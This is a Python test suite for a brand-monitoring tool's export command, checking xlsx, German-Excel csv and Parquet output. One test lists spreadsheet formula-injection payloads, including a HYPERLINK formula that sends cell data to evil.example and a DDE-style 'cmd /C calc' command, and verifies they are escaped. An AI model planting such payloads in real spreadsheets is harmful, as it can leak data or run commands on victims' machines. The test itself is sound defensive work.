"""`brandpulse export`: the xlsx workbook (one sheet per table, real dates and numbers), csv for
German Excel (`--excel`) and Parquet with real timestamps and list columns (issue 17)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from typer.testing import CliRunner

import monitor.analyst.formats as formats
from monitor.cli.app import app
from monitor.core.rows import MentionIn, mention_row
from monitor.core.times import parse_time
from tests.helpers.analyst import seed

runner = CliRunner()
BERLIN = ZoneInfo("Europe/Berlin")


@pytest.fixture
def seeded(archive):
    info = seed(archive)
    with archive.conn:
        archive.conn.execute(
            "INSERT INTO incidents (brand, status, lead_alert_id, lead_kind, lead_topic, headline_de,"
            " headline_en, severity, peak_severity, authors, first_seen, last_seen, opened_at,"
            " updated_at) VALUES ('Acme', 'open', ?, 'spike', 'app', 'App: 12 Beschwerden',"
            " 'App: 12 complaints', 4.0, 4.5, 4, '2026-11-20', '2026-11-21', '2026-11-21T06:00:00Z',"
            " '2026-11-21T06:00:00Z')",
            (info["alert_id"],),
        )
        archive.conn.execute("UPDATE alerts SET incident_id = 1, sources = '[\"appstore\"]'")
    return archive, info


def export(watchlist_file, *args):
    return runner.invoke(app, ["--config", str(watchlist_file), "export", *args])


def add(archive, *texts: str, rating: float | None = None) -> None:
    archive.add_mentions(
        [
            mention_row(
                MentionIn(id=f"x{i}", text=t, rating=rating, published_at="2026-11-20T10:00:00Z"),
                default_brand="Acme",
            )
            for i, t in enumerate(texts)
        ]
    )


def sheet_rows(ws) -> tuple[list[str], list[dict]]:
    rows = list(ws.iter_rows(values_only=True))
    return list(rows[0]), [dict(zip(rows[0], r)) for r in rows[1:]]


# --------------------------------------------------------------------------- xlsx


def test_xlsx_has_one_sheet_per_table_with_real_dates_and_numbers(seeded, watchlist_file, tmp_path):
    arc, info = seeded
    out = tmp_path / "acme.xlsx"
    res = export(watchlist_file, "--format", "xlsx", "--out", str(out))
    assert res.exit_code == 0, res.output
    assert "wrote 49 mention(s)" in res.stderr and "sheets: mentions, topics, alerts" in res.stderr
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["mentions", "topics", "alerts", "incidents", "surveys"]
    heads, mentions = sheet_rows(wb["mentions"])
    assert len(mentions) == 49 and "published_at (Europe/Berlin)" in heads
    assert wb["mentions"].freeze_panes == "A2" and wb["mentions"].auto_filter.ref == f"A1:{_last(heads)}50"
    stored = dict(arc.conn.execute("SELECT id, published_at FROM mentions"))
    for m in mentions:
        when = m["published_at (Europe/Berlin)"]
        assert isinstance(when, datetime), "a date cell, not text"
        assert when == parse_time(stored[m["id"]]).astimezone(BERLIN).replace(tzinfo=None)
        assert isinstance(m["id"], int) and isinstance(m["rating"], int | float)
        assert isinstance(m["sentiment_score"], float) and m["topics"] in ("search", "app")
    _, topics = sheet_rows(wb["topics"])
    assert len(topics) == 49 and {t["topic"] for t in topics} == {"search", "app"}
    _, alerts = sheet_rows(wb["alerts"])
    (alert,) = alerts
    assert alert["id"] == info["alert_id"] and alert["incident_id"] == 1
    assert alert["window_start"] == datetime(2026, 11, 20) and alert["observed"] == 12
    assert alert["sources"] == "appstore"
    _, incidents = sheet_rows(wb["incidents"])
    assert [(i["headline_en"], i["severity"], i["first_seen"]) for i in incidents] == [
        ("App: 12 complaints", 4.0, datetime(2026, 11, 20))
    ]
    _, surveys = sheet_rows(wb["surveys"])
    assert sorted(s["score"] for s in surveys) == [0, 3, 8, 9, 10]
    assert all(isinstance(s["responded_at"], datetime) for s in surveys)
    assert [s["topics"] for s in surveys if s["customer_ref"] == "K-4"] == ["delivery"]


def _last(heads: list[str]) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(len(heads))


def test_xlsx_filters_follow_brand_and_days(seeded, watchlist_file, tmp_path):
    out = tmp_path / "week.xlsx"
    res = export(
        watchlist_file, "-f", "xlsx", "-o", str(out), "--since", "2026-11-19", "--until", "2026-11-20"
    )
    assert res.exit_code == 0, res.output
    wb = openpyxl.load_workbook(out)
    _, surveys = sheet_rows(wb["surveys"])
    assert sorted(s["responded_at"].date() for s in surveys) == [date(2026, 11, 19), date(2026, 11, 20)]
    assert len(sheet_rows(wb["alerts"])[1]) == 1  # its window 20-21 Nov touches the days
    later = tmp_path / "later.xlsx"
    assert export(watchlist_file, "-f", "xlsx", "-o", str(later), "--since", "2026-11-22").exit_code == 0
    wb = openpyxl.load_workbook(later)
    assert [len(sheet_rows(wb[n])[1]) for n in wb.sheetnames] == [0, 0, 0, 0, 0]


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def test_xlsx_text_cannot_run_and_bad_characters_do_not_break_the_file(archive, watchlist_file, tmp_path):
    long = "Lieferung " * 4000  # 40,000 characters: more than a cell holds
    add(archive, *FORMULAS, "vorher\x1b[2Jnach\x00her", long)
    out = tmp_path / "m.xlsx"
    res = export(watchlist_file, "-f", "xlsx", "-o", str(out))
    assert res.exit_code == 0, res.output
    ws = openpyxl.load_workbook(out)["mentions"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cells"
    texts = [r["text"] for r in sheet_rows(ws)[1]]
    assert sorted(t for t in texts if t.startswith("'")) == sorted("'" + f for f in FORMULAS)
    stored = archive.conn.execute("SELECT text FROM mentions WHERE text LIKE 'vorher%'").fetchone()[0]
    assert "\x1b" in stored and stored.replace("\x1b", "\ufffd").replace("\x00", "\ufffd") in texts
    cut = next(t for t in texts if t.startswith("Lieferung"))
    assert len(cut) == formats.XLSX_MAX_CHARS and cut.endswith("…")


def test_xlsx_past_excels_row_limit_is_refused_and_leaves_no_file(
    archive, watchlist_file, tmp_path, monkeypatch
):
    add(archive, *(f"Erwähnung {i}" for i in range(12)))
    monkeypatch.setattr(formats, "XLSX_MAX_ROWS", 10)
    out = tmp_path / "big.xlsx"
    res = export(watchlist_file, "-f", "xlsx", "-o", str(out))
    assert res.exit_code == 2 and "more than 9 mentions" in res.stderr and "--format parquet" in res.stderr
    assert list(tmp_path.glob("*big.xlsx*")) == []


# --------------------------------------------------------------------------- csv for Excel


def test_csv_for_german_excel_has_a_bom_semicolons_and_decimal_commas(archive, watchlist_file, tmp_path):
    add(archive, "Zürich; Lieferung 4.5 Tage zu spät", "=1+1", rating=4.5)
    out = tmp_path / "m.csv"
    res = export(watchlist_file, "--format", "csv", "--excel", "--out", str(out))
    assert res.exit_code == 0, res.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert [r["text"] for r in rows] == ["Zürich; Lieferung 4.5 Tage zu spät", "'=1+1"]
    assert {r["rating"] for r in rows} == {"4,5"} and rows[0]["id"].isdigit()
    plain = export(watchlist_file, "--format", "csv")
    assert not plain.stdout.startswith("\ufeff") and ",4.5," in plain.stdout


# --------------------------------------------------------------------------- parquet


def test_parquet_keeps_timestamps_and_lists(seeded, watchlist_file, tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    arc, _ = seeded
    (mid,) = arc.conn.execute("SELECT min(id) FROM mentions").fetchone()
    arc.mark_answered([mid], at=datetime(2026, 11, 22, 8, 30, tzinfo=ZoneInfo("UTC")))
    with arc.conn:
        arc.conn.execute(
            "INSERT INTO mention_topics (mention_id, topic, keyword, taxonomy_version)"
            " VALUES (?, 'zz', 'zz', 't')",
            (mid,),
        )
    out = tmp_path / "m.parquet"
    assert export(watchlist_file, "-f", "parquet", "-o", str(out)).exit_code == 0
    table = pq.read_table(out)
    schema = table.schema
    for name in ("published_at", "fetched_at", "redacted_at", "replied_at"):
        assert schema.field(name).type == pa.timestamp("ms", tz="UTC"), name
    assert schema.field("topics").type == pa.list_(pa.string())
    assert schema.field("rating").type == pa.float64() and schema.field("id").type == pa.int64()
    rows = {r["id"]: r for r in table.to_pylist()}
    stored = dict(arc.conn.execute("SELECT id, published_at FROM mentions"))
    assert all(rows[i]["published_at"] == parse_time(stored[i]) for i in stored)
    assert rows[mid]["replied_at"] == datetime(2026, 11, 22, 8, 30, tzinfo=ZoneInfo("UTC"))
    assert rows[mid]["reply_source"] == "manual"
    topics = rows[mid]["topics"]
    assert len(topics) == 2 and topics[1] == "zz" and topics == sorted(topics)
    # csv joins the same list, jsonl keeps it a list
    as_csv = {r["id"]: r for r in csv.DictReader(io.StringIO(export(watchlist_file, "-f", "csv").stdout))}
    assert as_csv[str(mid)]["topics"] == ",".join(topics)
    lines = export(watchlist_file, "-f", "jsonl").stdout.splitlines()
    assert {r["id"]: r["topics"] for r in map(json.loads, lines)}[mid] == topics
